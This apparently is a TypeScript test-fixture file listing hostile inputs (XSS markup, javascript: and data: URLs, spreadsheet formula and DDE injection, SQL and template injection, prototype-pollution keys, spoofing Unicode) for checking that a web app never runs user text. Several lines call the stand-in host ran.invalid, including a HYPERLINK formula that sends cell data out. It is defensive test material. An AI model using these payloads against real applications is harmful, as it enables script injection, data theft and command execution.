/**
 * Texts of our own that try to become more than text: what they would run leaves `ran` on the page, or asks a host that nobody
 * may ask. A journey looks for both.
 */

/** Property of `window` that none of these texts may ever set. */
export const canary = "__ran";

/** Host that nobody may ask. */
export const forbiddenHost = "ran.invalid";

const ran = `window.${canary}=1`;
const from = `http://${forbiddenHost}/`;

/** Elements that run, load or lead away where a text is taken for markup. */
export const markupTexts: readonly string[] = [
  `<script>${ran}</script>`,
  `<script src="${from}x.js"></script>`,
  `<img src=x onerror="${ran}">`,
  `<img src="${from}x.png">`,
  `<svg onload=${ran}>`,
  `<svg/onload=${ran}//`,
  `<svg><script>${ran}</script></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${ran}'/>#x"></svg>`,
  `<iframe src="javascript:parent.${canary}=1"></iframe>`,
  `<iframe srcdoc="<script>parent.${canary}=1</script>"></iframe>`,
  `<object data="${from}x.svg"></object>`,
  `<embed src="${from}x.svg">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${ran}>`,
  `<style>@import "${from}x.css";*{display:none}</style>`,
  `<link rel=stylesheet href="${from}x.css">`,
  `<base href="${from}">`,
  `<meta http-equiv=refresh content="0;url=${from}">`,
  `<form action="${from}"><button autofocus onfocus=${ran}>Press</button></form>`,
  `<a href="javascript:${ran}">Click</a>`,
  `<details open ontoggle=${ran}>`,
  `<video><source onerror=${ran}>`,
  `<template><img src=x onerror=${ran}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${ran}>">`,
  `"><img src=x onerror=${ran}>`,
  `' onmouseover='${ran}' x='`,
  `\` onfocus=${ran} autofocus tabindex=1 \``,
  `--><script>${ran}</script><!--`,
  `]]><script>${ran}</script>`,
  `</title><script>${ran}</script>`,
  `</textarea><script>${ran}</script>`,
  `</script><script>${ran}</script>`,
  `&lt;script&gt;${ran}&lt;/script&gt;`,
  `&#60;img src=x onerror=${ran}&#62;`,
  `<b>bold<i>never closed`,
  `<<>><><</`,
  `<!--`,
  `<?php ${ran} ?>`,
];

/** Addresses that are no web address, or lead elsewhere than they seem to. */
export const schemeTexts: readonly string[] = [
  `javascript:${ran}`,
  `JaVaScRiPt:${ran}`,
  `java\tscript:${ran}`,
  ` javascript:${ran}`,
  `\u0001javascript:${ran}`,
  `javascript://${forbiddenHost}/%0a${ran}`,
  `data:text/html,<script>${ran}</script>`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19yYW49MTwvc2NyaXB0Pg==`,
  `vbscript:${ran}`,
  `blob:${from}x`,
  "file:///etc/passwd",
  `//${forbiddenHost}/`,
  `\\\\${forbiddenHost}\\share`,
  `/\\${forbiddenHost}/`,
  `https://user:pass@${forbiddenHost}/`,
  `https://portal.example@${forbiddenHost}/`,
  `https://portal.example\\@${forbiddenHost}/`,
  `https:${forbiddenHost}`,
  "../../../../etc/passwd",
  "..\\..\\windows\\system32",
];

/** Cells that a spreadsheet would calculate, also behind what separates cells in other countries. */
export const formulaTexts: readonly string[] = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://ran.invalid/?x="&A1,"Look")',
  "+1+1",
  "-1+1",
  "@SUM(1+1)",
  "%=1+1",
  "|=1+1",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  " \u200B\uFEFF=1+1",
  "＝1+1",
  "Sale;=1+1",
  'Sale";=1+1',
  'Sale;"=1+1"',
  "Sale\t=1+1",
  "Sale\n=1+1",
  "Sale,=1+1",
  '"=1+1',
  "'=1+1",
];

/** What programs take for their own: references of a batch, placeholders, replacements, patterns, queries, templates. */
export const templateTexts: readonly string[] = [
  "$result[copy]",
  "$RESULT[copy][0]",
  "Price: $result[page0] only",
  "$error[copy] $next[copy] $total[copy] $time[copy]",
  "{site} {date} {n}",
  "{0} {count, plural, one {x} other {y}} '{'",
  "{{constructor.constructor('return window')()}}",
  "${7*7} #{7*7} <%= 7*7 %> {% raw %}",
  "$1 $& $` $' $$ $<name>",
  "(a+)+$",
  "[unclosed (and {2,1} \\",
  "\\1 \\u0041 \\x41 \\0",
  "a&b=c&d[]=e&scope=GROUP",
  "a=b",
  "#landing12 #block3 #landing$result[copy]",
  "fields[TITLE]=x&lid=1",
  "100% %41 %00 %GG",
  "a+b a%20b a;b,c",
  "' OR 1=1; DROP TABLE b_landing; --",
  "null",
  "[object Object]",
  "__proto__",
  "constructor",
  "prototype",
  "toString",
  "hasOwnProperty",
  "__defineGetter__",
];

/** Characters that hide, turn, break or multiply what stands beside them. */
export const characterTexts: readonly string[] = [
  "",
  " ",
  "\u00A0\u3000",
  "\u200B\u200C\u200D\u2060\uFEFF",
  "abc\u202Egpj.exe\u202C",
  "\u202Eright to left, never ended",
  "\u2067isolate, never ended",
  "ended too often\u2069\u2069\u202C",
  "\u200Fשלום <b>עולם</b> abc 123",
  "مرحبا بالعالم (copy) 123",
  "👩‍👩‍👧‍👦🏳️‍🌈👍🏽🇩🇪",
  "Z̴̨̛̗a̷̡̛͉l̶̨͔͝g̷̳̈́ó̸̡",
  "ﷺ﷽",
  "NUL\u0000inside",
  "bell\u0007 escape\u001B[31m delete\u007F \u0085",
  "line\u2028separator\u2029paragraph",
  "first\r\nsecond\nthird\rfourth",
  "tab\there",
  "\uFFFE\uFFFF\u{1FFFF}",
  "half a pair \uD83D",
  "\uDE00 the other half",
  "\uDE00\uD83D the wrong way round",
  "e\u0301 and é, ﬁ and fi, ſ and s, İ and i",
  "аdmin with Cyrillic а",
  "W".repeat(10_000),
  "long and many words ".repeat(500),
  "a\u0301\u0302\u0303".repeat(2000),
];

/** All of them. */
export const ownTexts: readonly string[] = [
  ...markupTexts,
  ...schemeTexts,
  ...formulaTexts,
  ...templateTexts,
  ...characterTexts,
];
